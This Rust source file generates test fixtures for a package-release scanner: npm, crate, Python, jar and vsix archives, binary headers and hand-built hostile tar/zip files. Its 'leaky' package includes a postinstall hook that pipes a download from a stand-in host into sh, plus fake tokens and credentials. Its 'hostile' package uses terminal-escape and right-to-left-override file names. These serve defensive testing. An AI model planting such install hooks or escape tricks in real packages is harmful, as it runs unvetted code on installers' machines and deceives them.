//! Generated package fixtures for every test, example and benchmark: npm tarballs, crates,
//! sdists, wheels, jars, vsix files, source maps, native binary headers and hostile archives,
//! all built by code (never binary files in git).
//!
//! The safe builders of the `tar` and `zip` crates refuse exactly the archives an attacker
//! would send (`../` names, absolute paths, duplicate names, sizes that lie), so the hostile
//! fixtures are written byte by byte here: [`Tar`] fills 512-byte headers itself and computes
//! their checksums, [`Zip`] writes local headers, the central directory and its end record.
//!
//! The integration tests reach it as `common::fixtures`; the library's unit tests include the
//! same file by `#[path]` (from `src/rules/test_support.rs`), and so does `benches/review.rs`.
//! So it uses only external crates (`tar`, `flate2`, `zip`, `serde_json`), never `shipcheck`.
#![allow(dead_code)] // each target uses its own subset

use std::io::Write as _;
use std::path::{Path, PathBuf};

use flate2::Compression;
use flate2::write::{DeflateEncoder, GzEncoder};

/// An npm-style `.tgz` of `files` (path bytes, content) under `package/`.
pub fn tgz(files: &[(&[u8], &[u8])]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut b = tar::Builder::new(gz);
    for (path, data) in files {
        let mut h = tar::Header::new_gnu();
        let mut full = b"package/".to_vec();
        full.extend_from_slice(path);
        {
            // Written raw: tar's path setters refuse some of the hostile names we need.
            let name = &mut h.as_old_mut().name;
            let n = full.len().min(name.len());
            name[..n].copy_from_slice(&full[..n]);
        }
        if full.len() > 100 {
            h.set_path(String::from_utf8_lossy(&full).as_ref())
                .expect("long fixture paths are UTF-8");
        }
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_entry_type(tar::EntryType::Regular);
        h.set_mtime(1_700_000_000);
        h.set_cksum();
        b.append(&h, *data).expect("writing to memory");
    }
    b.into_inner().expect("tar").finish().expect("gzip")
}

/// A gzip'd tar of `files` with their paths as stored (e.g. `package/index.js`), written by
/// the `tar` crate (so only names it accepts), mtime 0.
pub fn tgz_as_stored(files: &[(&str, &[u8])]) -> Vec<u8> {
    tgz_as_stored_with(files, Some(tar::EntryType::Regular))
}

/// [`tgz_as_stored`] with each type flag left NUL, as V7 tar marked a regular file: the
/// packages of the `check` tests, whose snapshots record the sizes of tarballs nested this way.
pub fn tgz_as_stored_v7(files: &[(&str, &[u8])]) -> Vec<u8> {
    tgz_as_stored_with(files, None)
}

fn tgz_as_stored_with(files: &[(&str, &[u8])], kind: Option<tar::EntryType>) -> Vec<u8> {
    let gz = GzEncoder::new(Vec::new(), Compression::fast());
    let mut t = tar::Builder::new(gz);
    for (path, bytes) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(bytes.len() as u64);
        h.set_mode(0o644);
        if let Some(kind) = kind {
            h.set_entry_type(kind);
        }
        h.set_cksum();
        t.append_data(&mut h, path, *bytes).expect("in-memory tar");
    }
    let mut gz = t.into_inner().expect("tar finishes");
    // A sync flush before the end: it is in the bytes the existing fixtures were built with.
    gz.flush().expect("flush");
    gz.finish().expect("gzip finishes")
}

/// A zip of `files` written by the `zip` crate, stored (not deflated), mode 0644.
pub fn zip_stored(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Stored)
        .unix_permissions(0o644);
    for (path, bytes) in files {
        w.start_file(*path, opts).expect("zip entry");
        w.write_all(bytes).expect("zip write");
    }
    w.finish().expect("zip finishes").into_inner()
}

/// A token-shaped string built at run time, so no scanner mistakes this source for a leak.
pub fn fake_token(prefix: &str, len: usize) -> String {
    let body: String = "Q7fZ2kP9wX4mL8rT1vB6nJ3cH5yD0sGa"
        .chars()
        .cycle()
        .take(len)
        .collect();
    format!("{prefix}{body}")
}

const CLI_V1: &str = "#!/usr/bin/env node\n'use strict';\nconst { greet } = require('./lib/util');\nconsole.log(greet(process.argv[2] || 'world'));\n";
const UTIL: &str = "'use strict';\nexports.greet = (name) => `hello, ${name}`;\n";
const README: &str = "# demo-cli\n\nSays hello.\n\n```sh\nnpx demo-cli you\n```\n";

/// `demo-cli@1.0.0`: a clean release.
pub fn demo_clean() -> Vec<u8> {
    let pkg = r#"{"name":"demo-cli","version":"1.0.0","bin":{"demo-cli":"dist/cli.js"},"files":["dist"],"dependencies":{"kleur":"^4.1.5"}}"#;
    tgz(&[
        (b"package.json", pkg.as_bytes()),
        (b"README.md", README.as_bytes()),
        (b"LICENSE", b"MIT License\n\nCopyright (c) 2026 Demo\n"),
        (b"CHANGELOG.md", b"# 1.0.0\n\n- first release\n"),
        (b"dist/cli.js", CLI_V1.as_bytes()),
        (b"dist/lib/util.js", UTIL.as_bytes()),
    ])
}

/// The TypeScript sources the leaky release embeds in its source map.
pub fn leaked_sources() -> Vec<(&'static str, String)> {
    let token = fake_token("ghp_", 36);
    vec![
        ("webpack://demo-cli/./src/cli.ts", "import { greet } from './lib/util';\nimport { login } from './auth/token';\n\nasync function main(argv: string[]): Promise<void> {\n  await login();\n  console.log(greet(argv[2] ?? 'world'));\n}\n\nmain(process.argv);\n".to_owned()),
        ("webpack://demo-cli/./src/auth/token.ts", format!("// Internal: service account for the release bot.\nconst GITHUB_TOKEN = '{token}';\nconst API = 'https://api.internal.example.com/v2';\n\nexport async function login(): Promise<string> {{\n  const res = await fetch(`${{API}}/session`, {{\n    headers: {{ authorization: `token ${{GITHUB_TOKEN}}` }},\n  }});\n  return res.text();\n}}\n")),
        ("webpack://demo-cli/./src/lib/util.ts", "export const greet = (name: string): string => `hello, ${name}`;\n".to_owned()),
    ]
}

/// `demo-cli@1.1.0`: leaks its sources through `dist/cli.js.map`, ships a `.env`, adds a
/// dependency with a postinstall script, and drops the changelog.
pub fn demo_leaky() -> Vec<u8> {
    let pkg = r#"{"name":"demo-cli","version":"1.1.0","bin":{"demo-cli":"dist/cli.js"},"scripts":{"postinstall":"node scripts/setup.js"},"dependencies":{"kleur":"^4.1.5","left-pad-ng":"git+https://github.com/example/left-pad-ng.git"}}"#;
    let srcs = leaked_sources();
    let names: Vec<String> = srcs
        .iter()
        .map(|(n, _)| serde_json::to_string(n).expect("str"))
        .collect();
    let contents: Vec<String> = srcs
        .iter()
        .map(|(_, c)| serde_json::to_string(c).expect("str"))
        .collect();
    let map = format!(
        r#"{{"version":3,"file":"cli.js","sources":[{}],"sourcesContent":[{}],"names":[],"mappings":"AAAA,SAAS"}}"#,
        names.join(","),
        contents.join(",")
    );
    let cli = "#!/usr/bin/env node\n\"use strict\";var e=require(\"./lib/util\");async function n(){await fetch(\"https://api.internal.example.com/v2/session\")}n().then(()=>console.log(e.greet(process.argv[2]||\"world\")));\n//# sourceMappingURL=cli.js.map\n";
    let env = format!(
        "# local settings\nDATABASE_URL=postgres://release:hunter2@db.internal.example.com:5432/app\nSTRIPE_SECRET_KEY={}\nDEBUG=demo:*\n",
        fake_token("sk_live_", 24)
    );
    let setup = "// runs on every install\nconst { execSync } = require('child_process');\nexecSync('curl -s https://telemetry.example.com/i | sh');\n";
    tgz(&[
        (b"package.json", pkg.as_bytes()),
        (b"README.md", README.as_bytes()),
        (b"LICENSE", b"MIT License\n\nCopyright (c) 2026 Demo\n"),
        (b"dist/cli.js", cli.as_bytes()),
        (b"dist/cli.js.map", map.as_bytes()),
        (b"dist/lib/util.js", UTIL.as_bytes()),
        (b".env", env.as_bytes()),
        (b"scripts/setup.js", setup.as_bytes()),
    ])
}

/// An index source map (`sections`): one section per list of `(source name, content)`, each
/// a regular map with `sourcesContent`, then one section that points elsewhere by `url`.
pub fn index_map(sections: &[&[(&str, &str)]]) -> Vec<u8> {
    let mut list: Vec<serde_json::Value> = sections
        .iter()
        .enumerate()
        .map(|(i, files)| {
            let (names, contents): (Vec<&str>, Vec<&str>) = files.iter().copied().unzip();
            serde_json::json!({
                "offset": { "line": i * 1000, "column": 0 },
                "map": { "version": 3, "sources": names, "sourcesContent": contents,
                         "names": [], "mappings": "AAAA" },
            })
        })
        .collect();
    list.push(serde_json::json!({
        "offset": { "line": sections.len() * 1000, "column": 0 },
        "url": "vendor.js.map",
    }));
    serde_json::to_vec(&serde_json::json!({ "version": 3, "file": "app.js", "sections": list }))
        .expect("an index map serialises")
}

/// A minimal ELF file of type `e_type` (1 object, 2 executable, 3 shared object, 4 core)
/// with the named sections (four bytes of data each) and their name table; ELF64 when `wide`,
/// little-endian when `little`.
pub fn elf(e_type: u16, sections: &[&str], wide: bool, little: bool) -> Vec<u8> {
    let put = |out: &mut Vec<u8>, v: u64, n: usize| {
        let b = if little {
            v.to_le_bytes()
        } else {
            v.to_be_bytes()
        };
        if little {
            out.extend_from_slice(&b[..n]);
        } else {
            out.extend_from_slice(&b[8 - n..]);
        }
    };
    let word = if wide { 8 } else { 4 };
    let (ehsize, shentsize) = if wide { (64usize, 64usize) } else { (52, 40) };
    let mut names = vec![0u8];
    let mut name_offsets = Vec::new();
    for n in sections.iter().copied().chain([".shstrtab"]) {
        name_offsets.push(names.len() as u64);
        names.extend_from_slice(n.as_bytes());
        names.push(0);
    }
    let data_at = ehsize;
    let names_at = data_at + 4 * sections.len();
    let shoff = names_at + names.len();
    let mut out = b"\x7fELF".to_vec();
    out.extend_from_slice(&[if wide { 2 } else { 1 }, if little { 1 } else { 2 }, 1]);
    out.resize(16, 0);
    put(&mut out, u64::from(e_type), 2);
    put(&mut out, 62, 2); // x86-64
    put(&mut out, 1, 4);
    put(&mut out, 0, word); // entry
    put(&mut out, 0, word); // phoff
    put(&mut out, shoff as u64, word);
    put(&mut out, 0, 4); // flags
    put(&mut out, ehsize as u64, 2);
    put(&mut out, 0, 2); // phentsize
    put(&mut out, 0, 2); // phnum
    put(&mut out, shentsize as u64, 2);
    put(&mut out, sections.len() as u64 + 2, 2);
    put(&mut out, sections.len() as u64 + 1, 2); // shstrndx: the last
    for _ in sections {
        out.extend_from_slice(b"DATA");
    }
    out.extend_from_slice(&names);
    let header = |out: &mut Vec<u8>, name: u64, kind: u64, offset: u64, size: u64| {
        put(out, name, 4);
        put(out, kind, 4);
        put(out, 0, word); // flags
        put(out, 0, word); // addr
        put(out, offset, word);
        put(out, size, word);
        put(out, 0, 4); // link
        put(out, 0, 4); // info
        put(out, 1, word); // align
        put(out, 0, word); // entsize
    };
    header(&mut out, 0, 0, 0, 0);
    for (i, at) in name_offsets.iter().take(sections.len()).enumerate() {
        header(&mut out, *at, 1, (data_at + 4 * i) as u64, 4);
    }
    header(
        &mut out,
        name_offsets[sections.len()],
        3,
        names_at as u64,
        names.len() as u64,
    );
    out
}

/// A minimal little-endian Mach-O 64 file of `filetype` (1 object, 2 executable, 4 core,
/// 6 dylib, 10 dSYM) with one `LC_SEGMENT_64` per named segment, each 16 bytes in the file.
pub fn macho(filetype: u32, segments: &[&str]) -> Vec<u8> {
    let mut out = vec![0xcf, 0xfa, 0xed, 0xfe];
    for v in [
        0x0100_000c,
        0,
        filetype,
        segments.len() as u32,
        72 * segments.len() as u32,
        0,
        0,
    ] {
        out.extend_from_slice(&u32::to_le_bytes(v));
    }
    for name in segments {
        out.extend_from_slice(&0x19u32.to_le_bytes());
        out.extend_from_slice(&72u32.to_le_bytes());
        let mut seg = [0u8; 16];
        seg[..name.len()].copy_from_slice(name.as_bytes());
        out.extend_from_slice(&seg);
        for v in [0u64, 16, 0, 16] {
            out.extend_from_slice(&v.to_le_bytes()); // vmaddr, vmsize, fileoff, filesize
        }
        out.extend_from_slice(&[0u8; 16]); // maxprot, initprot, nsects, flags
    }
    out
}

/// A universal (fat) Mach-O holding `slices`.
pub fn fat_macho(slices: &[Vec<u8>]) -> Vec<u8> {
    let mut out = vec![0xca, 0xfe, 0xba, 0xbe];
    out.extend_from_slice(&(slices.len() as u32).to_be_bytes());
    let mut at = 8 + 20 * slices.len();
    for s in slices {
        for v in [0x0100_000c, 0, at as u32, s.len() as u32, 0] {
            out.extend_from_slice(&u32::to_be_bytes(v));
        }
        at += s.len();
    }
    for s in slices {
        out.extend_from_slice(s);
    }
    out
}

/// The first bytes of a Windows minidump.
pub fn minidump() -> Vec<u8> {
    let mut out = b"MDMP\x93\xa7\0\0".to_vec();
    out.resize(64, 0);
    out
}

/// The first bytes of a PDB (MSF 7.00).
pub fn pdb() -> Vec<u8> {
    let mut out = b"Microsoft C/C++ MSF 7.00\r\n\x1aDS\0\0\0".to_vec();
    out.resize(64, 0);
    out
}

/// A minimal PE image: DOS header pointing at a PE signature, COFF header with `machine`,
/// the DLL characteristic when `dll`, and a PE32+ optional header magic.
pub fn pe(machine: u16, dll: bool) -> Vec<u8> {
    let mut out = vec![0u8; 0x80 + 24 + 2];
    out[..2].copy_from_slice(b"MZ");
    out[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
    out[0x80..0x84].copy_from_slice(b"PE\0\0");
    out[0x84..0x86].copy_from_slice(&machine.to_le_bytes());
    let characteristics: u16 = if dll { 0x2022 } else { 0x0022 };
    out[0x96..0x98].copy_from_slice(&characteristics.to_le_bytes());
    out[0x98..0x9a].copy_from_slice(&0x20bu16.to_le_bytes());
    out
}

/// The smallest WebAssembly module: magic and version 1.
pub fn wasm() -> Vec<u8> {
    b"\0asm\x01\0\0\0".to_vec()
}

/// A package whose names and contents carry terminal escape sequences.
pub fn hostile() -> Vec<u8> {
    let content = "line one\n\x1b[2J\x1b[Hcleared?\n\x1b]52;c;cHduZWQ=\x07clipboard?\n\x1b]0;pwned\x07title?\nabc\u{202e}txt.exe\nend of evil\n";
    let padding = "// padding so this file sorts first\n".repeat(40);
    let body = format!("{content}{padding}");
    tgz(&[
        (b"package.json", br#"{"name":"evil","version":"6.6.6"}"#),
        ("evil\x1b[2J.js".as_bytes(), body.as_bytes()),
        ("clip\x1b]52;c;cHduZWQ=\x07.js".as_bytes(), b"x\n"),
        ("title\x1b]0;pwned\x07.js".as_bytes(), b"y\n"),
        ("gnp\u{202e}js.png".as_bytes(), b"z\n"),
    ])
}

/// A package of `n` small files in nested folders.
pub fn many_files(n: usize) -> Vec<u8> {
    let names: Vec<String> = (0..n)
        .map(|i| format!("lib/m{}/d{}/f{i}.js", i % 100, (i / 100) % 10))
        .collect();
    let files: Vec<(&[u8], &[u8])> = std::iter::once((
        &b"package.json"[..],
        &br#"{"name":"many","version":"1.0.0"}"#[..],
    ))
    .chain(
        names
            .iter()
            .map(|n| (n.as_bytes(), &b"module.exports = 1;\n"[..])),
    )
    .collect();
    tgz(&files)
}

/// A package with one minified file of `size` bytes on a single line.
pub fn one_long_line(size: usize) -> Vec<u8> {
    minified(size, usize::MAX)
}

/// A package with one minified file of `size` bytes, a newline every `line` bytes or so.
pub fn minified(size: usize, line: usize) -> Vec<u8> {
    let unit = "var a=function(b){return b*2};";
    let mut s = String::with_capacity(size + unit.len());
    let mut since = 0;
    while s.len() < size {
        s.push_str(unit);
        since += unit.len();
        if since >= line {
            s.push('\n');
            since = 0;
        }
    }
    s.truncate(size);
    tgz(&[
        (b"package.json", br#"{"name":"minified","version":"1.0.0"}"#),
        (b"dist/bundle.min.js", s.as_bytes()),
    ])
}

/// A tar stream written header by header.
#[derive(Default)]
pub struct Tar {
    /// The bytes so far (no end marker until [`Tar::finish`]).
    pub bytes: Vec<u8>,
}

/// Tar type flags.
pub mod flag {
    pub const FILE: u8 = b'0';
    pub const HARDLINK: u8 = b'1';
    pub const SYMLINK: u8 = b'2';
    pub const CHAR: u8 = b'3';
    pub const BLOCK: u8 = b'4';
    pub const DIR: u8 = b'5';
    pub const FIFO: u8 = b'6';
    pub const GNU_LONGNAME: u8 = b'L';
    pub const PAX: u8 = b'x';
}

fn octal(field: &mut [u8], value: u64) {
    // NUL-terminated zero-padded octal, as GNU tar writes it; base-256 (high bit set, then
    // big-endian) when the value does not fit, as GNU tar does for sizes of 8 GiB and more.
    let text = format!("{value:0width$o}", width = field.len() - 1);
    if text.len() < field.len() {
        field[..text.len()].copy_from_slice(text.as_bytes());
        field[text.len()] = 0;
    } else {
        field.fill(0);
        let n = field.len();
        field[n - 8..].copy_from_slice(&value.to_be_bytes());
        field[0] = 0x80;
    }
}

/// One raw 512-byte ustar header. `name` longer than 100 bytes is cut: use
/// [`Tar::gnu_long_name`] or [`Tar::pax`] for long names.
pub fn header(name: &[u8], typeflag: u8, size: u64, link: &[u8], mode: u32) -> [u8; 512] {
    let mut h = [0u8; 512];
    let n = name.len().min(100);
    h[..n].copy_from_slice(&name[..n]);
    octal(&mut h[100..108], u64::from(mode));
    octal(&mut h[108..116], 1000); // uid
    octal(&mut h[116..124], 1000); // gid
    octal(&mut h[124..136], size);
    octal(&mut h[136..148], 1_700_000_000); // mtime
    h[156] = typeflag;
    let l = link.len().min(100);
    h[157..157 + l].copy_from_slice(&link[..l]);
    h[257..263].copy_from_slice(b"ustar\0");
    h[263..265].copy_from_slice(b"00");
    fix_checksum(&mut h);
    h
}

/// Recomputes a header's checksum after it was edited.
pub fn fix_checksum(h: &mut [u8; 512]) {
    h[148..156].fill(b' ');
    let sum: u32 = h.iter().map(|&b| u32::from(b)).sum();
    let text = format!("{sum:06o}\0 ");
    h[148..156].copy_from_slice(text.as_bytes());
}

fn pad(bytes: &mut Vec<u8>) {
    let rem = bytes.len() % 512;
    if rem != 0 {
        bytes.resize(bytes.len() + 512 - rem, 0);
    }
}

impl Tar {
    /// An empty stream.
    pub fn new() -> Self {
        Self::default()
    }

    /// Any header followed by `data` (padded), with the size field saying `declared`.
    pub fn raw(&mut self, name: &[u8], typeflag: u8, declared: u64, data: &[u8], link: &[u8]) {
        let mode = match typeflag {
            flag::DIR => 0o755,
            _ => 0o644,
        };
        self.bytes
            .extend_from_slice(&header(name, typeflag, declared, link, mode));
        self.bytes.extend_from_slice(data);
        pad(&mut self.bytes);
    }

    /// A regular file.
    pub fn file(&mut self, name: &str, data: &[u8]) -> &mut Self {
        self.file_bytes(name.as_bytes(), data)
    }

    /// A regular file with a name that may not be UTF-8.
    pub fn file_bytes(&mut self, name: &[u8], data: &[u8]) -> &mut Self {
        self.raw(name, flag::FILE, data.len() as u64, data, b"");
        self
    }

    /// A regular file with explicit mode bits.
    pub fn file_mode(&mut self, name: &str, data: &[u8], mode: u32) -> &mut Self {
        self.bytes.extend_from_slice(&header(
            name.as_bytes(),
            flag::FILE,
            data.len() as u64,
            b"",
            mode,
        ));
        self.bytes.extend_from_slice(data);
        pad(&mut self.bytes);
        self
    }

    /// A directory.
    pub fn dir(&mut self, name: &str) -> &mut Self {
        self.raw(name.as_bytes(), flag::DIR, 0, b"", b"");
        self
    }

    /// A symbolic or hard link (or any other data-less entry) pointing at `target`.
    pub fn link(&mut self, name: &str, typeflag: u8, target: &str) -> &mut Self {
        self.raw(name.as_bytes(), typeflag, 0, b"", target.as_bytes());
        self
    }

    /// A GNU long-name record followed by a file whose own header carries a cut name.
    pub fn gnu_long_name(&mut self, name: &[u8], data: &[u8]) -> &mut Self {
        let mut long = name.to_vec();
        long.push(0);
        self.raw(
            b"././@LongLink",
            flag::GNU_LONGNAME,
            long.len() as u64,
            &long,
            b"",
        );
        self.raw(name, flag::FILE, data.len() as u64, data, b"");
        self
    }

    /// A pax extended header with the given records, followed by a file.
    pub fn pax(&mut self, records: &[(&str, &[u8])], name: &str, data: &[u8]) -> &mut Self {
        let mut body = Vec::new();
        for (key, value) in records {
            // "LEN key=value\n" where LEN counts itself.
            let rest = key.len() + value.len() + 3;
            let mut len = rest + 1;
            while len != rest + len.to_string().len() {
                len = rest + len.to_string().len();
            }
            body.extend_from_slice(format!("{len} {key}=").as_bytes());
            body.extend_from_slice(value);
            body.push(b'\n');
        }
        self.raw(b"PaxHeaders/x", flag::PAX, body.len() as u64, &body, b"");
        self.raw(name.as_bytes(), flag::FILE, data.len() as u64, data, b"");
        self
    }

    /// The stream with its two-zero-block end marker.
    pub fn finish(&self) -> Vec<u8> {
        let mut out = self.bytes.clone();
        out.extend_from_slice(&[0u8; 1024]);
        out
    }
}

/// gzip of `bytes`.
pub fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut enc = GzEncoder::new(Vec::new(), Compression::default());
    enc.write_all(bytes).expect("gzip in memory");
    enc.finish().expect("gzip finishes")
}

/// Writes `bytes` to `dir/name` and returns the path.
pub fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, bytes).expect("write fixture");
    path
}

/// An npm tarball: `package/` root holding `package.json` and the given files.
pub fn npm_tgz(name: &str, version: &str, files: &[(&str, &[u8])]) -> Vec<u8> {
    npm_tgz_with(
        &format!(r#"{{"name":"{name}","version":"{version}"}}"#),
        files,
    )
}

/// An npm tarball with an explicit `package.json` text.
pub fn npm_tgz_with(package_json: &str, files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut t = Tar::new();
    t.file("package/package.json", package_json.as_bytes());
    for (path, data) in files {
        t.file(&format!("package/{path}"), data);
    }
    gzip(&t.finish())
}

/// A `.crate`: `name-version/` root with `Cargo.toml`, `Cargo.toml.orig` and `src/lib.rs`.
pub fn crate_file(name: &str, version: &str) -> Vec<u8> {
    crate_with(name, version, "", &[])
}

/// A `.crate` whose `[package]` table ends with `package_extra` (e.g. `build = false`), with
/// more files under its root.
pub fn crate_with(
    name: &str,
    version: &str,
    package_extra: &str,
    files: &[(&str, &[u8])],
) -> Vec<u8> {
    let root = format!("{name}-{version}");
    let toml = format!(
        "[package]\nname = \"{name}\"\nversion = \"{version}\"\nedition = \"2021\"\n{package_extra}\n[dependencies]\nserde = \"1\"\n"
    );
    let mut t = Tar::new();
    t.file(&format!("{root}/Cargo.toml"), toml.as_bytes())
        .file(&format!("{root}/Cargo.toml.orig"), toml.as_bytes())
        .file(&format!("{root}/src/lib.rs"), b"pub fn f() {}\n");
    for (path, data) in files {
        t.file(&format!("{root}/{path}"), data);
    }
    gzip(&t.finish())
}

/// A Python sdist: `name-version/` root with `PKG-INFO`, `setup.py` and a module.
pub fn sdist(name: &str, version: &str) -> Vec<u8> {
    sdist_with(
        name,
        version,
        &[
            ("setup.py", b"from setuptools import setup\nsetup()\n"),
            (&format!("{name}/__init__.py"), b""),
        ],
    )
}

/// A Python sdist: `name-version/` root with `PKG-INFO` and the given files.
pub fn sdist_with(name: &str, version: &str, files: &[(&str, &[u8])]) -> Vec<u8> {
    let root = format!("{name}-{version}");
    let info = format!(
        "Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nRequires-Dist: requests (>=2)\n\nLong description.\n"
    );
    let mut t = Tar::new();
    t.dir(&format!("{root}/"))
        .file(&format!("{root}/PKG-INFO"), info.as_bytes());
    for (path, data) in files {
        t.file(&format!("{root}/{path}"), data);
    }
    gzip(&t.finish())
}

/// One record of a hand-written zip.
#[derive(Clone)]
pub struct ZipRecord {
    /// Name bytes as stored (local header and central directory).
    pub name: Vec<u8>,
    /// The uncompressed content.
    pub data: Vec<u8>,
    /// Deflate (8) or store (0).
    pub deflate: bool,
    /// What the headers claim the uncompressed size is (defaults to the truth).
    pub declared_size: Option<u32>,
    /// Unix mode stored in the external attributes (with type bits); `None` for a DOS entry.
    pub unix_mode: Option<u32>,
    /// Extra fields, written in both the local header and the central directory.
    pub extra: Vec<u8>,
}

impl ZipRecord {
    /// A deflated file record.
    pub fn file(name: &str, data: &[u8]) -> Self {
        Self {
            name: name.as_bytes().to_vec(),
            data: data.to_vec(),
            deflate: true,
            declared_size: None,
            unix_mode: Some(0o100_644),
            extra: Vec::new(),
        }
    }
}

/// A zip written byte by byte.
#[derive(Default)]
pub struct Zip {
    /// The records, in order.
    pub records: Vec<ZipRecord>,
}

impl Zip {
    /// An empty zip.
    pub fn new() -> Self {
        Self::default()
    }

    /// Adds a deflated file.
    pub fn file(&mut self, name: &str, data: &[u8]) -> &mut Self {
        self.records.push(ZipRecord::file(name, data));
        self
    }

    /// Adds any record.
    pub fn record(&mut self, r: ZipRecord) -> &mut Self {
        self.records.push(r);
        self
    }

    /// A unix symlink (mode 0o120777) whose content is the target.
    pub fn symlink(&mut self, name: &str, target: &str) -> &mut Self {
        self.records.push(ZipRecord {
            name: name.as_bytes().to_vec(),
            data: target.as_bytes().to_vec(),
            deflate: false,
            declared_size: None,
            unix_mode: Some(0o120_777),
            extra: Vec::new(),
        });
        self
    }

    /// The zip file's bytes.
    pub fn finish(&self) -> Vec<u8> {
        let mut out = Vec::new();
        let mut central = Vec::new();
        for r in &self.records {
            let offset = out.len() as u32;
            let stored = if r.deflate {
                let mut enc = DeflateEncoder::new(Vec::new(), Compression::default());
                enc.write_all(&r.data).expect("deflate in memory");
                enc.finish().expect("deflate finishes")
            } else {
                r.data.clone()
            };
            let mut crc = flate2::Crc::new();
            crc.update(&r.data);
            let method: u16 = if r.deflate { 8 } else { 0 };
            let usize_ = r.declared_size.unwrap_or(r.data.len() as u32);
            let name_len = r.name.len() as u16;
            // Bit 11 (UTF-8 name) for a non-ASCII UTF-8 name, as zip writers set it; without
            // it Python's zipfile (pip), and so shipcheck, read the name as cp437.
            let flags: u16 = if !r.name.is_ascii() && std::str::from_utf8(&r.name).is_ok() {
                0x800
            } else {
                0
            };
            // Local file header.
            out.extend_from_slice(b"PK\x03\x04");
            out.extend_from_slice(&20u16.to_le_bytes()); // version needed
            out.extend_from_slice(&flags.to_le_bytes());
            out.extend_from_slice(&method.to_le_bytes());
            out.extend_from_slice(&0u16.to_le_bytes()); // time
            out.extend_from_slice(&0x5921u16.to_le_bytes()); // date
            out.extend_from_slice(&crc.sum().to_le_bytes());
            out.extend_from_slice(&(stored.len() as u32).to_le_bytes());
            out.extend_from_slice(&usize_.to_le_bytes());
            let extra_len = r.extra.len() as u16;
            out.extend_from_slice(&name_len.to_le_bytes());
            out.extend_from_slice(&extra_len.to_le_bytes());
            out.extend_from_slice(&r.name);
            out.extend_from_slice(&r.extra);
            out.extend_from_slice(&stored);
            // Central directory record.
            let (made_by, external) = match r.unix_mode {
                Some(mode) => (0x0314u16, mode << 16),
                None => (0x0014u16, 0),
            };
            central.extend_from_slice(b"PK\x01\x02");
            central.extend_from_slice(&made_by.to_le_bytes());
            central.extend_from_slice(&20u16.to_le_bytes());
            central.extend_from_slice(&flags.to_le_bytes());
            central.extend_from_slice(&method.to_le_bytes());
            central.extend_from_slice(&0u16.to_le_bytes());
            central.extend_from_slice(&0x5921u16.to_le_bytes());
            central.extend_from_slice(&crc.sum().to_le_bytes());
            central.extend_from_slice(&(stored.len() as u32).to_le_bytes());
            central.extend_from_slice(&usize_.to_le_bytes());
            central.extend_from_slice(&name_len.to_le_bytes());
            central.extend_from_slice(&extra_len.to_le_bytes());
            central.extend_from_slice(&0u16.to_le_bytes()); // comment
            central.extend_from_slice(&0u16.to_le_bytes()); // disk
            central.extend_from_slice(&0u16.to_le_bytes()); // internal attrs
            central.extend_from_slice(&external.to_le_bytes());
            central.extend_from_slice(&offset.to_le_bytes());
            central.extend_from_slice(&r.name);
            central.extend_from_slice(&r.extra);
        }
        let cd_start = out.len() as u32;
        let count = self.records.len() as u16;
        out.extend_from_slice(&central);
        out.extend_from_slice(b"PK\x05\x06");
        out.extend_from_slice(&0u16.to_le_bytes());
        out.extend_from_slice(&0u16.to_le_bytes());
        out.extend_from_slice(&count.to_le_bytes());
        out.extend_from_slice(&count.to_le_bytes());
        out.extend_from_slice(&(central.len() as u32).to_le_bytes());
        out.extend_from_slice(&cd_start.to_le_bytes());
        out.extend_from_slice(&0u16.to_le_bytes());
        out
    }
}

/// A wheel: `demo/__init__.py` plus `demo-1.0.dist-info/{METADATA,WHEEL,RECORD}`.
pub fn wheel(name: &str, version: &str) -> Vec<u8> {
    wheel_with(name, version, &[])
}

/// A wheel with more files after its module and `dist-info`.
pub fn wheel_with(name: &str, version: &str, files: &[(&str, &[u8])]) -> Vec<u8> {
    let info = format!("{name}-{version}.dist-info");
    let mut z = Zip::new();
    z.file(&format!("{name}/__init__.py"), b"VALUE = 1\n")
        .file(
            &format!("{info}/METADATA"),
            format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\n").as_bytes(),
        )
        .file(
            &format!("{info}/WHEEL"),
            b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        )
        .file(&format!("{info}/RECORD"), b"");
    for (path, data) in files {
        z.file(path, data);
    }
    z.finish()
}

/// A jar: `META-INF/MANIFEST.MF` and a class file.
pub fn jar() -> Vec<u8> {
    Zip::new()
        .file(
            "META-INF/MANIFEST.MF",
            b"Manifest-Version: 1.0\nImplementation-Title: demo-lib\nImplementation-Version: 2.0.1\n",
        )
        .file("com/example/Demo.class", b"\xca\xfe\xba\xbe\0\0\0\x34")
        .finish()
}

/// A vsix: `extension.vsixmanifest` and `extension/package.json`.
pub fn vsix() -> Vec<u8> {
    Zip::new()
        .file(
            "extension.vsixmanifest",
            b"<?xml version=\"1.0\"?><PackageManifest/>",
        )
        .file(
            "extension/package.json",
            br#"{"name":"demo-ext","version":"0.0.3","engines":{"vscode":"^1.80.0"}}"#,
        )
        .file(
            "extension/out/extension.js",
            b"exports.activate = () => {};\n",
        )
        .finish()
}

/// A plain zip written by the `zip` crate itself (not by hand), for interop.
pub fn plain_zip_by_crate() -> Vec<u8> {
    use zip::write::SimpleFileOptions;
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = SimpleFileOptions::default().unix_permissions(0o644);
    w.add_directory("docs/", opts).expect("zip dir");
    w.start_file("docs/readme.txt", opts).expect("zip file");
    w.write_all(b"hello from a zip\n").expect("zip write");
    w.start_file(
        "bin/tool",
        opts.unix_permissions(0o755)
            .compression_method(zip::CompressionMethod::Stored),
    )
    .expect("zip file");
    w.write_all(b"#!/bin/sh\necho hi\n").expect("zip write");
    w.finish().expect("zip finishes").into_inner()
}

/// Writes a gzip'd tar holding one entry of `size` zero bytes, streaming (never held in
